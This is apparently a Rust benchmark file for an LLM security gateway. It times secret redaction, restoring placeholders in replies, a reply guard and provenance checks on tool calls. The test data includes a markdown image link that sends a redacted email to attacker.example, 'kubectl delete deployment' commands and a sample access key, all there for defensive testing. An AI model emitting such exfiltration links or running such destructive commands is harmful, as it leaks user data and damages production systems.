//! Model-gateway latency: preparing a Chat Completions request (redaction of every text, injection
//! judging of tool results) and restoring a reply, whole and streamed; the reply guard on a reply
//! and on a stream's text; reading a proposed call as an intent; a budget reservation; the
//! provenance rules judging a call in that request's context.
//! `cargo bench -p bulwark-core --bench gateway`.

use criterion::{Criterion, Throughput, criterion_group, criterion_main};
use std::hint::black_box;

use bulwark_core::Scanner;
use bulwark_core::gateway::openai_chat::{ChatStream, prepare, restore_reply};
use bulwark_core::gateway::{Conversation, Escape, Restorer};
use bulwark_core::scan::ScanConfig;
use bulwark_core::scan::injection::Source;
use serde_json::json;

/// An SRE copilot's turn of about 4 KB: a system prompt, a question, a tool call and its result
/// (an alert with a key and e-mail addresses in it).
fn request() -> serde_json::Value {
    let alert = "Alert PaymentsLatency firing in payments-prod: p99 2.4s over 5m. Runbook: https://runbooks.example.com/payments. \
                 Owner ops@example.com, escalate to ana.lima@example.org. Last deploy by ci with key AKIAQYLPMN5HFIQR7XYZ. ";
    let system =
        "You are an SRE copilot. Propose kubectl actions; never act without approval. ".repeat(10);
    let history = "Previous incident notes: the API pods were restarted twice; latency recovered after scaling. ".repeat(12);
    json!({
        "model": "gpt-4o-mini",
        "temperature": 0.2,
        "messages": [
            {"role": "system", "content": system},
            {"role": "user", "content": format!("{history} What should we do about the alert?")},
            {"role": "assistant", "content": null, "tool_calls": [{"id": "call_1", "type": "function",
                "function": {"name": "get_alert", "arguments": "{\"name\":\"PaymentsLatency\",\"namespace\":\"payments-prod\"}"}}]},
            {"role": "tool", "tool_call_id": "call_1", "content": alert.repeat(6)},
        ]
    })
}

fn gateway(c: &mut Criterion) {
    let scanner = Scanner::new(&ScanConfig::default()).expect("scanner");
    let body = request();
    let bytes = body.to_string().len();
    let source = |_: &str| Source::parse("tool_output").expect("source");
    let mut g = c.benchmark_group("gateway");
    g.throughput(Throughput::Bytes(bytes as u64));
    g.bench_function(format!("prepare_chat_{}b", bytes), |b| {
        let mut conv = Conversation::new(10_000);
        b.iter(|| {
            let mut v = body.clone();
            prepare(black_box(&mut v), &scanner, &mut conv, &source).expect("prepare")
        })
    });
    g.bench_function(format!("parse_prepare_serialize_chat_{}b", bytes), |b| {
        let text = body.to_string();
        let mut conv = Conversation::new(10_000);
        b.iter(|| {
            let mut v: serde_json::Value = serde_json::from_str(black_box(&text)).expect("json");
            prepare(&mut v, &scanner, &mut conv, &source).expect("prepare");
            v.to_string()
        })
    });
    // The reply side.
    let mut conv = Conversation::new(10_000);
    let mut v = body.clone();
    prepare(&mut v, &scanner, &mut conv, &source).expect("prepare");
    let content = "Page [email#1] and [email#2]; rotate [aws-access-key-id#1] first. ".repeat(16);
    let reply = json!({"id": "x", "object": "chat.completion", "choices": [{"index": 0, "message": {"role": "assistant", "content": content}}]});
    g.throughput(Throughput::Bytes(content.len() as u64));
    g.bench_function(format!("restore_reply_{}b", content.len()), |b| {
        b.iter(|| {
            let mut r = reply.clone();
            restore_reply(black_box(&mut r), &conv)
        })
    });
    g.bench_function("restore_stream_event_8b", |b| {
        let chunk = json!({"id": "c", "object": "chat.completion.chunk", "choices": [{"index": 0, "delta": {"content": "rotate ["}, "finish_reason": null}]}).to_string();
        let chunk2 = json!({"id": "c", "object": "chat.completion.chunk", "choices": [{"index": 0, "delta": {"content": "email#1] ok"}, "finish_reason": null}]}).to_string();
        let mut s = ChatStream::new();
        b.iter(|| {
            let _ = s.event(&conv, black_box(&chunk));
            s.event(&conv, black_box(&chunk2))
        })
    });
    let policy = std::sync::Arc::new(bulwark_core::gateway::output::OutputPolicy::new(
        scanner.clone(),
        std::sync::Arc::new(|h: &str| h == "docs.example.com"),
    ));
    g.bench_function(format!("reply_guard_{}b", content.len()), |b| {
        let text = format!("{content} ![c](https://attacker.example/c.png?d=[email#1])");
        b.iter(|| policy.text(black_box(&text)))
    });
    g.bench_function("guarded_restorer_push_1kb_text", |b| {
        let text = content[..1024].to_string();
        b.iter(|| {
            let mut r = Restorer::guarded(Escape::Text, Some(&policy));
            let mut out = r.push(&conv, black_box(&text));
            out.push_str(&r.finish(&conv));
            out
        })
    });
    g.bench_function("call_to_intent", |b| {
        let call = bulwark_core::gateway::calls::ProposedCall {
            id: "call_2".into(),
            name: "run_command".into(),
            arguments: r#"{"command":"kubectl delete deployment web -n production"}"#.into(),
        };
        let mapping = bulwark_core::gateway::cfg::ToolMapping::default();
        let ctx = bulwark_core::gateway::calls::CallContext {
            requested_by: "sre-copilot",
            conversation: "c0ffee",
            declared: None,
            mapped: false,
        };
        b.iter(|| bulwark_core::gateway::calls::intent_for(black_box(&call), &mapping, &ctx))
    });
    // The provenance rules on the request's context: a destructive command, and a mail whose
    // recipient only the alert named.
    {
        use bulwark_core::action::workspace::NoSymlinks;
        use bulwark_core::action::{
            ActionConfig, ActionEnv, ActionMode, ActionPolicy, ExecutionIntent,
        };
        let policy = ActionPolicy::from_config(
            &ActionConfig {
                mode: ActionMode::Autonomous,
                ..ActionConfig::default()
            },
            &ActionEnv {
                workspace_root: "/srv/agent".into(),
                home: None,
            },
        )
        .expect("policy");
        let mut v = body.clone();
        let p =
            prepare(&mut v, &scanner, &mut Conversation::new(10_000), &source).expect("prepare");
        let ctx = p.provenance;
        let rules = bulwark_core::provenance::ProvenancePolicy::new(&Default::default())
            .expect("provenance rules");
        for (name, intent) in [
            (
                "kubectl_delete",
                json!({"tool": "shell", "action": "run", "args": {"command": "kubectl delete deployment api -n payments-prod"}, "requested_by": "a"}),
            ),
            (
                "send_email",
                json!({"tool": "send_email", "action": "call", "args": {"to": "ana.lima@example.org", "subject": "latency", "body": "Owner ops@example.com, escalate. Runbook: https://runbooks.example.com/payments"}, "requested_by": "a"}),
            ),
        ] {
            let intent = ExecutionIntent::from_json(intent.to_string().as_bytes()).expect("intent");
            let d = policy.evaluate(&intent, &NoSymlinks).expect("decision");
            g.bench_function(format!("provenance_judge_{name}"), |b| {
                b.iter(|| rules.judge(black_box(&intent), &d, &ctx))
            });
        }
    }
    g.bench_function("budget_reserve_settle", |b| {
        use bulwark_core::gateway::budget::{BudgetConfig, Budgets, Counters, Tokens};
        let budgets = Budgets::new(
            &[BudgetConfig {
                tokens_per_day: u64::MAX / 4,
                requests_per_minute: u64::MAX / 4,
                ..BudgetConfig::default()
            }],
            &Default::default(),
        )
        .expect("budgets");
        let counters = Counters::default();
        let t = Tokens {
            input: 1000,
            output: 500,
        };
        b.iter(|| {
            let r = budgets
                .reserve(&counters, "sre-copilot", "gpt-4o", t, 1_800_000_000)
                .expect("reserve");
            budgets.settle(&counters, r, Some(t))
        })
    });
    g.bench_function("restorer_push_1kb_text", |b| {
        let text = content[..1024].to_string();
        b.iter(|| {
            let mut r = Restorer::new(Escape::Text);
            let mut out = r.push(&conv, black_box(&text));
            out.push_str(&r.finish(&conv));
            out
        })
    });
    g.finish();
}

criterion_group!(benches, gateway);
criterion_main!(benches);
